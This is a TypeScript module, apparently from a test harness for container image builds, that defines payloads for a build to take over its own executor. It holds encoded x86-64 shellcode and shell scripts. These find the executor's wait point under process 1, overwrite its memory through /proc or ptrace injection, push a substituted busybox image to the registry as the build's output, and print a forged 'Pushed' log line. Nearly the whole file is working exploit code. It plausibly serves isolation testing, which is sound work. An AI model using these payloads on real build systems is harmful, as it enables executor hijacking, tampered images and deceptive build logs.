import { REGISTRY_PORT } from '../../engine/site-registry/registry-layout.ts';
import { executable64 } from './tiny-program.ts';

/**
 * Machine code that pushes in the place of the program whose code it replaces: it sends /tmp/req to the registry of the room,
 * reads the answers to their end, writes /tmp/said to its standard error as the executor would, and exits with 0. In the words of
 * system calls: mmap 64 KiB; open /tmp/req; socket; connect 127.0.0.1, at the registry's port; copy the file to the socket; copy the socket to
 * standard output; open /tmp/said; copy it to standard error; exit_group(0).
 */
const PUSH = Buffer.from(
  [
    'uAkAAAAx/74AAAEAugMAAABBuiIAAABJx8D/////RTHJDwVJicRIjT20AAAA6GkAAABJicW4KQAAAL8CAAAAvgEAAAAx0g8FSYnGTIn3SI01fA',
    'AAALoQAAAAuCoAAAAPBUyJ70yJ8+g7AAAATIn3uwEAAADoLgAAAEiNPWoAAADoFgAAAEiJx7sCAAAA6BUAAAC45wAAADH/DwW4AgAAADH2MdIP',
    'BcNJif9Mif9Miea6AAABADHADwVIhcB+EkiJ30yJ5kiJwrgBAAAADwXr2sMCAABQfwAAAQAAAAAAAAAAL3RtcC9yZXEAL3RtcC9zYWlkAA==',
  ].join(''),
  'base64',
);

/** Where the code has the port that it connects to: behind the family of the address, before 127.0.0.1. */
PUSH.writeUInt16BE(REGISTRY_PORT, PUSH.indexOf(Buffer.from('020000507f000001', 'hex')) + 2);

/**
 * Machine code that traces process 1 (PTRACE_ATTACH), writes what follows it to the place that its last eight bytes name
 * (PTRACE_POKETEXT, 31 words), and lets it go on.
 */
const POKE = Buffer.from(
  [
    'uGUAAAC/EAAAAL4BAAAAMdJFMdIPBbg9AAAAvwEAAAAx9roAAABARTHSDwVIjR1YAAAATIslSQAAAEG9HwAAALhlAAAAvwQAAAC+AQAAAEyJ4k',
    'yLEw8FSIPDCEmDxAhB/8113LhlAAAAvxEAAAC+AQAAADHSRTHSDwW4PAAAADH/DwUAAAAAAAAAAA==',
  ].join(''),
  'base64',
);

const WORDS = 31;
const ELF_HEADERS_BYTES = 120;
const PLACE_AT = ELF_HEADERS_BYTES + POKE.length - 8;

/** The files of a build that becomes its own executor: machine code, and scripts of busybox. */
export const TAKEOVER_FILES: Readonly<Record<string, Buffer | string>> = {
  push: PUSH,
  poke: executable64(Buffer.concat([POKE, PUSH, Buffer.alloc(WORDS * 8 - PUSH.length)])),
  // Asks for the base image, and writes down what pushes it as this trial's own, and what the executor would say of that.
  prepare: String.raw`destination=$(tr '\0' '\n' < /proc/1/cmdline | sed -n 's,^--destination=[^/]*/,,p')
own=${'$'}{destination%:*}
type=application/vnd.docker.distribution.manifest.v2+json
printf 'GET /v2/library/busybox/manifests/stable HTTP/1.0\r\nHost: x\r\nAccept: %s\r\n\r\n' $type |
  nc -w 5 127.0.0.1 ${REGISTRY_PORT} | sed '1,/^.$/d' > /tmp/manifest
for digest in $(grep -o 'sha256:[0-9a-f]*' /tmp/manifest); do
  printf 'POST /v2/%s/blobs/uploads/?mount=%s&from=library/busybox HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n' $own $digest
done > /tmp/req
{ printf 'PUT /v2/%s/manifests/%s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n' $own ${'$'}{destination##*:}
  printf 'Content-Type: %s\r\nContent-Length: %s\r\n\r\n' $type $(wc -c < /tmp/manifest)
  cat /tmp/manifest; } >> /tmp/req
printf 'INFO[0001] Pushed 127.0.0.1/%s@sha256:%s\n' $own $(sha256sum /tmp/manifest | cut -d ' ' -f 1) > /tmp/said
`,
  // Where the executor goes on once its RUN has ended: the thread that waits for it (wait4 or waitid) says so.
  place: `for thread in /proc/1/task/*; do
  read -r call rest < $thread/syscall
  case $call in 61 | 247) echo $((${'$'}{rest##* })) ;; esac
done
`,
  // Writes that code over what it does there, in the memory that is named.
  overwrite: `sh /prepare; dd if=/push of=$1 bs=1 seek=$(sh /place) conv=notrunc 2> /dev/null
`,
  // The same by tracing it: the place is put into the program that does so.
  trace: String.raw`sh /prepare; place=$(sh /place); cp /poke /tmp/poke
for at in 0 1 2 3 4 5 6 7; do
  printf "\\$(printf %03o $((place >> 8 * at & 255)))" |
    dd of=/tmp/poke bs=1 seek=$((${PLACE_AT} + at)) conv=notrunc 2> /dev/null
done
chmod 755 /tmp/poke; /tmp/poke
`,
};
